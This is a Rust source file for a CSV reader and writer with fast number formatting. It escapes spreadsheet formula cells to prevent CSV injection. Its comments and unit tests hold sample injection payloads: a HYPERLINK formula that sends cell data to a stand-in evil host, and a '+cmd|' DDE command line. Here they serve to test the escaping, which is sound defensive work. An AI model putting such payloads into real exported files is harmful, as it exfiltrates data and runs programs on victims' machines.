//! The CSV text Forma exchanges, read and written with the `csv` crate (RFC 4180:
//! quoted cells, doubled quotes, CRLF or LF line ends, an optional UTF-8
//! byte-order mark): a reader that knows each record's line, the serde cells
//! every writer uses ([`Text`], [`Number`], [`write_csv`]), and the number format
//! every CSV Forma writes shares.
//!
//! Every text cell Forma writes is safe to open in a spreadsheet. A cell that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return would run as a
//! formula there (OWASP, "CSV Injection": `=HYPERLINK(...)` sends data away,
//! `+cmd|...` starts programs), so [`write_cell`] puts a `'` in front of it, which
//! spreadsheets read as "this is text". A cell that already starts with `'` gets
//! one too, so that [`unescape_cell`], which Forma's readers apply to text cells,
//! takes exactly one off and a file read back gives what was written. Numbers
//! are written as numbers (a negative load stays a number).

/// One record: its cells and the 1-based line it starts on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Record {
    pub line: usize,
    pub cells: Vec<String>,
}

/// Splits `text` into records. Blank lines are skipped. An unterminated quote
/// runs to the end of the text, as most spreadsheet programs read it.
pub(crate) fn records(text: &str) -> Vec<Record> {
    let mut reader = Reader::new(text);
    let mut record = csv::StringRecord::new();
    let mut out = Vec::new();
    while let Some(line) = reader.next_record(&mut record) {
        out.push(Record {
            line,
            cells: record.iter().map(str::to_owned).collect(),
        });
    }
    out
}

/// Reads records one at a time into one reused [`csv::StringRecord`], so a
/// large file costs no allocation per row or cell, and says which line each
/// record starts on.
///
/// The `csv` crate does the reading. Its own line numbers count a record's
/// line end with the next record and skip no blank lines, so the reader counts
/// lines itself: LF, CR LF and CR alone each end a line, as spreadsheet
/// programs show them.
pub(crate) struct Reader<'a> {
    text: &'a str,
    inner: csv::Reader<&'a [u8]>,
    /// Line ends before byte `counted`.
    lines: usize,
    counted: usize,
}

impl<'a> Reader<'a> {
    pub(crate) fn new(text: &'a str) -> Self {
        let inner = csv::ReaderBuilder::new()
            .has_headers(false)
            // Rows may have fewer or more cells than the header; a missing
            // cell reads as empty and the checks name it.
            .flexible(true)
            .from_reader(text.as_bytes());
        Self {
            text,
            inner,
            lines: 0,
            counted: 0,
        }
    }

    /// How many bytes of the text the records read so far took, with their
    /// line end (of a CR LF, the CR only).
    pub(crate) fn consumed(&self) -> usize {
        usize::try_from(self.inner.position().byte()).unwrap_or(self.text.len())
    }

    /// Replaces `record` with the next record's cells and returns the line it
    /// starts on, or `None` at the end of the text. Blank lines are skipped.
    // Inlined into its caller, whose crate's build decides how it is optimised:
    // for speed in the server, for size in the browser.
    #[inline(always)]
    pub(crate) fn next_record(&mut self, record: &mut csv::StringRecord) -> Option<usize> {
        // The text is a `&str` and every delimiter is ASCII, so each cell is
        // UTF-8: reading fails only at the end.
        if !self.inner.read_record(record).ok()? {
            return None;
        }
        let from = record
            .position()
            .and_then(|p| usize::try_from(p.byte()).ok())
            .unwrap_or(self.counted)
            .max(self.counted);
        // The position is where the reader began: before the LF of a CR LF and
        // any blank lines it skipped.
        let bytes = self.text.as_bytes();
        let skipped = bytes[from..]
            .iter()
            .take_while(|b| matches!(b, b'\r' | b'\n'))
            .count();
        let start = from + skipped;
        // `start` is not a line end, so a CR just before it stands alone.
        self.lines += line_ends(&bytes[self.counted..start]);
        self.counted = start;
        Some(self.lines + 1)
    }
}

/// The line ends in `bytes` as the reader counts them: LF, CR LF, or CR alone
/// (a CR at the end counts alone).
#[inline(always)]
pub(crate) fn line_ends(bytes: &[u8]) -> usize {
    let lf = bytes.iter().filter(|b| **b == b'\n').count();
    if !bytes.contains(&b'\r') {
        return lf;
    }
    let lone_cr = bytes
        .iter()
        .enumerate()
        .filter(|(i, b)| **b == b'\r' && bytes.get(i + 1) != Some(&b'\n'))
        .count();
    lf + lone_cr
}

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Appends the text `cell` to `out` as one CSV cell: with a `'` in front when
/// it starts like a formula (or with `'`), quoted when it holds a comma, quote
/// or line break.
pub(crate) fn write_cell(out: &mut String, cell: &str) {
    let record = write_csv("", [[Text(Some(cell))]]);
    out.push_str(record[1..].strip_suffix('\n').unwrap_or(&record[1..]));
}

/// A text cell for a serde row: written with a `'` in front when it starts like
/// a formula (or with `'`), as [`write_cell`] writes it; `None` is an empty cell.
pub(crate) struct Text<'a>(pub Option<&'a str>);

impl serde::Serialize for Text<'_> {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        match self.0 {
            None => serializer.serialize_none(),
            Some(cell) if cell.starts_with(FORMULA_START) || cell.starts_with('\'') => {
                serializer.serialize_str(&format!("'{cell}"))
            }
            Some(cell) => serializer.serialize_str(cell),
        }
    }
}

/// A number cell for a serde row, as [`write_number`] writes it (the `csv`
/// crate's own writes `300.0` for 300); `None` is an empty cell.
pub(crate) struct Number(pub Option<f64>);

impl serde::Serialize for Number {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let Some(x) = self.0 else {
            return serializer.serialize_none();
        };
        let (mut whole, mut shortest) = (itoa::Buffer::new(), zmij::Buffer::new());
        match short_number(x, &mut whole, &mut shortest) {
            Some(digits) => serializer.serialize_str(digits),
            None => serializer.serialize_str(&x.to_string()),
        }
    }
}

/// `header`, then one record per row, each line ended by LF.
pub(crate) fn write_csv<R: serde::Serialize>(
    header: &str,
    rows: impl IntoIterator<Item = R>,
) -> String {
    let mut out = Vec::with_capacity(header.len() + 1);
    out.extend_from_slice(header.as_bytes());
    out.push(b'\n');
    let mut writer = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(&mut out);
    for row in rows {
        // Rows of text and numbers written to memory: no I/O to fail, and
        // every row type here is a flat struct the `csv` crate takes.
        if let Err(e) = writer.serialize(row) {
            unreachable!("a CSV row of text and numbers did not serialise: {e}");
        }
    }
    drop(writer);
    // Every cell is a `&str` or ASCII digits.
    String::from_utf8(out).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
}

/// A text cell as [`write_cell`] was given it: one `'` taken off when it stands
/// before a formula's first character or another `'`.
pub(crate) fn unescape_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) || rest.starts_with('\'') => rest,
        _ => cell,
    }
}

/// A column a header names twice.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct RepeatedColumn {
    pub name: String,
    /// 1-based positions of its first two appearances.
    pub first: usize,
    pub second: usize,
}

impl RepeatedColumn {
    /// What a header should be, in words.
    pub(crate) fn accepted(&self) -> String {
        format!(
            "a header that names each column once; `{}` is both column {} and column {}",
            self.name, self.first, self.second
        )
    }
}

/// The first column `head` names twice (names compared without surrounding space).
pub(crate) fn duplicate_column<S: AsRef<str>>(head: &[S]) -> Option<RepeatedColumn> {
    let mut seen = std::collections::HashMap::with_capacity(head.len());
    for (i, name) in head.iter().enumerate() {
        let name = name.as_ref().trim();
        if name.is_empty() {
            continue;
        }
        if let Some(first) = seen.insert(name, i) {
            return Some(RepeatedColumn {
                name: name.to_owned(),
                first: first + 1,
                second: i + 1,
            });
        }
    }
    None
}

/// Appends `x` exactly as `Display` writes it (shortest digits that read back
/// to the same `f64`, no exponent), several times faster: this formatting is
/// most of the cost of writing a large metrics file.
pub(crate) fn write_number(out: &mut String, x: f64) {
    let (mut whole, mut shortest) = (itoa::Buffer::new(), zmij::Buffer::new());
    match short_number(x, &mut whole, &mut shortest) {
        Some(digits) => out.push_str(digits),
        None => {
            use std::fmt::Write;
            // Writing to a String cannot fail.
            let _ = write!(out, "{x}");
        }
    }
}

/// `x` as `Display` writes it, when itoa or zmij write it the same way (most
/// numbers; at most 24 bytes); `None` for the rest.
#[inline(always)]
fn short_number<'b>(
    x: f64,
    whole: &'b mut itoa::Buffer,
    shortest: &'b mut zmij::Buffer,
) -> Option<&'b str> {
    // Whole numbers below 2^53 are exact in an i64, and common (loads). The
    // cast rather than `fract`, which is a library call on baseline x86-64.
    let integer = x as i64;
    if integer as f64 == x && x.abs() < 9.0e15 && !(x == 0.0 && x.is_sign_negative()) {
        return Some(whole.format(integer));
    }
    // zmij writes the same shortest digits, but with an exponent outside
    // 1e-5..1e16 and, when two 17- or 16-digit numbers are equally near, the
    // other one. Deciding from `x` rather than scanning zmij's text avoids
    // reading back bytes still in flight from its wide stores.
    if (1e-5..1e15).contains(&x.abs()) && !may_tie(x) {
        return Some(shortest.format_finite(x));
    }
    None
}

/// Bytes of CSV text gathered in a fixed buffer and appended to `out` a few
/// kilobytes at a time, and when dropped. Every cell is copied in moves of a
/// fixed size rather than by a library call each, which costs more than the copy.
pub(crate) struct CsvBytes<'o> {
    out: &'o mut Vec<u8>,
    buffer: [u8; STAGED],
    len: usize,
}

/// Size of [`CsvBytes`]'s buffer.
const STAGED: usize = 4096;
/// Room for the longest short cell ([`short_number`], an athlete id) and one
/// fixed-size move past its end.
const CELL_ROOM: usize = 64 + 32;

impl<'o> CsvBytes<'o> {
    #[inline]
    pub(crate) fn new(out: &'o mut Vec<u8>) -> Self {
        Self {
            out,
            buffer: [0; STAGED],
            len: 0,
        }
    }

    /// Appends what is buffered to the output.
    #[inline]
    fn flush(&mut self) {
        self.out.extend_from_slice(&self.buffer[..self.len]);
        self.len = 0;
    }

    /// Makes room for a short cell.
    #[inline(always)]
    fn room(&mut self) -> &mut [u8] {
        if self.len + CELL_ROOM > STAGED {
            self.flush();
        }
        &mut self.buffer[self.len..self.len + CELL_ROOM]
    }

    #[inline(always)]
    pub(crate) fn byte(&mut self, byte: u8) {
        self.room()[0] = byte;
        self.len += 1;
    }

    /// Appends `text` as it is (the caller quotes, if needed).
    #[inline(always)]
    pub(crate) fn text(&mut self, text: &[u8]) {
        if text.len() > 64 {
            self.flush();
            self.out.extend_from_slice(text);
            return;
        }
        copy_short(self.room(), text);
        self.len += text.len();
    }

    /// Appends each value as a cell, after a comma: [`write_number`]'s text,
    /// or nothing for `None`.
    #[inline(always)]
    pub(crate) fn numbers<const N: usize>(&mut self, values: [Option<f64>; N]) {
        // Every value is formatted before any is copied: digits read back
        // straight after the formatter's wide stores cannot be forwarded from
        // them, and the load waits; by the end of the row the stores are done.
        let mut whole: [itoa::Buffer; N] = std::array::from_fn(|_| itoa::Buffer::new());
        let mut shortest: [zmij::Buffer; N] = std::array::from_fn(|_| zmij::Buffer::new());
        let mut texts: [Option<&str>; N] = [None; N];
        for (((value, text), whole), shortest) in values
            .iter()
            .zip(&mut texts)
            .zip(&mut whole)
            .zip(&mut shortest)
        {
            if let Some(x) = value {
                *text = short_number(*x, whole, shortest);
            }
        }
        for (value, text) in values.iter().zip(texts) {
            self.byte(b',');
            match (value, text) {
                (Some(_), Some(digits)) => {
                    copy_short(self.room(), digits.as_bytes());
                    self.len += digits.len();
                }
                (Some(x), None) => self.long_number(*x),
                (None, _) => {}
            }
        }
    }

    #[inline(never)]
    fn long_number(&mut self, x: f64) {
        let mut text = String::new();
        write_number(&mut text, x);
        self.flush();
        self.out.extend_from_slice(text.as_bytes());
    }
}

impl Drop for CsvBytes<'_> {
    fn drop(&mut self) {
        self.flush();
    }
}

/// Copies `src` (at most 64 bytes) to the start of `dst` (at least 64 bytes)
/// with two overlapping moves of a fixed size, which compile to a few loads and
/// stores rather than a call.
#[inline(always)]
fn copy_short(dst: &mut [u8], src: &[u8]) {
    let n = src.len();
    if n >= 16 {
        if n > 32 {
            dst[..32].copy_from_slice(&src[..32]);
            dst[n - 32..n].copy_from_slice(&src[n - 32..]);
        } else {
            dst[..16].copy_from_slice(&src[..16]);
            dst[n - 16..n].copy_from_slice(&src[n - 16..]);
        }
    } else if n >= 8 {
        dst[..8].copy_from_slice(&src[..8]);
        dst[n - 8..n].copy_from_slice(&src[n - 8..]);
    } else if n >= 4 {
        dst[..4].copy_from_slice(&src[..4]);
        dst[n - 4..n].copy_from_slice(&src[n - 4..]);
    } else if n > 0 {
        dst[0] = src[0];
        dst[n / 2] = src[n / 2];
        dst[n - 1] = src[n - 1];
    }
}

/// Whether the exact decimal value of `x` has 16 to 18 significant digits, so
/// that two shortest candidates (of 15 to 17 digits) may lie equally near it.
/// Shorter candidates are too far apart for both to read back as `x`.
fn may_tie(x: f64) -> bool {
    const FIVE_POWERS: [u64; 28] = {
        let mut powers = [1u64; 28];
        let mut k = 1;
        while k < 28 {
            powers[k] = powers[k - 1] * 5;
            k += 1;
        }
        powers
    };
    let bits = x.to_bits();
    let biased = ((bits >> 52) & 0x7ff) as i32;
    if biased == 0 {
        // Subnormal: zmij writes an exponent, so Display decides anyway.
        return true;
    }
    let significand = (bits & ((1 << 52) - 1)) | (1 << 52);
    let zeros = significand.trailing_zeros();
    // x = odd * 2^exponent = odd * 5^-exponent / 10^-exponent.
    let (odd, exponent) = (significand >> zeros, biased - 1075 + zeros as i32);
    match usize::try_from(-exponent) {
        Ok(k) if (1..FIVE_POWERS.len()).contains(&k) => {
            let digits = u128::from(odd) * u128::from(FIVE_POWERS[k]);
            (1_000_000_000_000_000..1_000_000_000_000_000_000).contains(&digits)
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_quotes_crlf_bom_and_blank_lines() {
        let text = "\u{feff}a,b\r\n1,\"x, \"\"y\"\"\"\r\n\r\n2,\"multi\nline\"\n3,";
        let r = records(text);
        assert_eq!(r.len(), 4);
        assert_eq!(r[0].cells, ["a", "b"]);
        assert_eq!(r[1].cells, ["1", "x, \"y\""]);
        assert_eq!(r[2].cells, ["2", "multi\nline"]);
        assert_eq!(r[2].line, 4);
        assert_eq!(r[3].cells, ["3", ""]);
        assert_eq!(r[3].line, 6);
    }

    #[test]
    fn writes_cells_that_read_back() {
        let mut s = String::new();
        write_cell(&mut s, "a,\"b\"");
        s.push(',');
        write_cell(&mut s, "plain");
        assert_eq!(records(&s)[0].cells, ["a,\"b\"", "plain"]);
    }

    /// One case per character OWASP lists, each read back exactly.
    #[test]
    fn a_cell_that_starts_like_a_formula_is_written_as_text_and_reads_back() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")",
                "\"'=HYPERLINK(\"\"http://evil.test/?x=\"\"&A1,\"\"click\"\")\"",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\tcalc", "'\tcalc"),
            ("\rcalc", "\"'\rcalc\""),
            ("'=already quoted", "''=already quoted"),
            ("'plain", "''plain"),
            ("plain = fine", "plain = fine"),
        ];
        for (cell, written) in cases {
            let mut out = String::new();
            write_cell(&mut out, cell);
            assert_eq!(out, written, "{cell:?}");
            assert!(
                !out.trim_start_matches('"').starts_with(FORMULA_START),
                "{out:?}"
            );
            let read = &records(&out)[0].cells[0];
            assert_eq!(unescape_cell(read), cell, "{out:?}");
        }
        assert_eq!(unescape_cell("'hand typed"), "'hand typed");
    }

    #[test]
    fn a_repeated_column_is_found_with_both_positions() {
        assert_eq!(duplicate_column(&["a", "b", "c"]), None);
        let twice = duplicate_column(&["athlete_id", "load", "date", " load "]).unwrap();
        assert_eq!(
            (twice.name.as_str(), twice.first, twice.second),
            ("load", 2, 4)
        );
        assert!(twice.accepted().contains("column 2 and column 4"));
        assert_eq!(duplicate_column(&["a", "", ""]), None);
    }

    #[test]
    fn a_quote_inside_a_bare_cell_is_kept_and_an_open_quote_runs_to_the_end() {
        let r = records("a\"b,c\"d,e\r\r\nx,\"open\nto the end");
        assert_eq!(r[0].cells, ["a\"b", "c\"d", "e"]);
        assert_eq!(r[1].cells, ["x", "open\nto the end"]);
        assert_eq!(r[1].line, 3);
        assert_eq!(records("\"\"\n,\n")[0].cells, [""]);
        assert_eq!(records("\"\"\n,\n")[1].cells, ["", ""]);
        assert!(records("\n\r\n\r").is_empty());
    }

    #[test]
    fn numbers_are_written_as_display_writes_them() {
        let mut state = 0x9E37_79B9_7F4A_7C15_u64;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        let specials = [
            0.0,
            -0.0,
            1.0,
            560.0,
            -23.809523809523807,
            1e15,
            9.0e15,
            1e16,
            1e-5,
            9.999_999_999_999_999e-6,
            999_999_999_999_999.9,
            1e-7,
            0.1 + 0.2,
            f64::MAX,
            f64::MIN_POSITIVE,
            f64::INFINITY,
            f64::NEG_INFINITY,
            f64::NAN,
        ];
        let random = (0..300_000).flat_map(|_| {
            let bits = next();
            // Raw bit patterns cover every exponent; scaled ones cover loads.
            [
                f64::from_bits(bits),
                (bits >> 11) as f64 / 1e6,
                (bits >> 40) as f64,
            ]
        });
        for x in specials.into_iter().chain(random) {
            let mut out = String::new();
            write_number(&mut out, x);
            assert_eq!(out, x.to_string(), "{x:e}");
        }
    }
}
